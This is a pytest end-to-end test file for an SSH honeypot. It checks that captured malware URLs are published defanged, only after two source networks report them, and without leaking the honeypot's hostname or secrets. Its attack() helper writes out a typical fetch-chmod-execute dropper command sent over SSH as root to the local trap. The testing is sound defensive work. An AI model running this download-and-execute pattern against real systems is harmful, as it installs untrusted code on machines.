"""Real attackers on the running trap, and what everyone sees of them: pages, feeds, files."""

from __future__ import annotations

import shutil
import subprocess
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.support.running import SECRETS, Dropper, RunningTrap, eventually

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningTrap]:
    if shutil.which("ssh") is None:
        pytest.skip("no ssh client: apt-get install openssh-client")
    extra = {
        "URLTRAP_PUBLIC__ENABLED": "true",
        "URLTRAP_PUBLIC__LISTEN": '"127.0.0.1:0"',
        "URLTRAP_PUBLIC__REFRESH_SECONDS": "1",
    }
    running = RunningTrap(tmp_path_factory.mktemp("public") / "data", extra)
    yield running
    running.stop()


def attack(trap: RunningTrap, source: str, url: str) -> None:
    """Fetch and run it in a session that comes from `source`."""
    command = f"cd /tmp; wget -q {url} -O .x && chmod +x .x && ./.x; exit 0"
    where = ["-b", source, "-p", str(trap.ssh_port), "root@127.0.0.1"]
    subprocess.run(
        ["ssh", *trap.ssh_options(), *where, command], env=trap.env, stdin=subprocess.DEVNULL, capture_output=True,
        timeout=60,
    )  # fmt: skip


def test_a_url_is_for_everyone_once_two_networks_have_shown_it(
    trap: RunningTrap, dropper: Dropper, tmp_path: Path
) -> None:
    url = f"{dropper.base}/bins/x86"
    defanged = f"{dropper.base.replace('http', 'hxxp', 1).replace('.', '[.]')}/bins/x86"
    host, port = trap._address("public", "")

    def everyone(path: str) -> str:
        with urllib.request.urlopen(f"http://{host}:{port}{path}", timeout=10) as answer:
            body: str = answer.read().decode()
        return body

    attack(trap, "127.0.0.1", url)
    eventually(lambda: url in trap.get("/feed.txt"), "known readers get it")
    assert url not in everyone("/feed.txt") and defanged not in everyone("/urls.html")
    attack(trap, "127.0.1.77", url)
    eventually(lambda: defanged in everyone("/urls.html"), "everyone sees it", 40)
    page = everyone("/urls.html")
    assert url not in page and "127.0.1.77" not in page
    assert url in everyone("/feed.txt"), "feeds are for machines"

    told = trap.json("publish", str(tmp_path / "out"))
    assert told["urls"] == 1 and defanged in (tmp_path / "out" / "urls.html").read_text()
    persona = (trap.folder / "persona.json").read_text()
    name = persona.partition('"hostname": "')[2].partition('"')[0]
    for path in (tmp_path / "out").rglob("*.*"):
        if path.is_file():
            body = path.read_text("utf-8", "replace")
            assert name not in body and not any(secret in body for secret in SECRETS), path
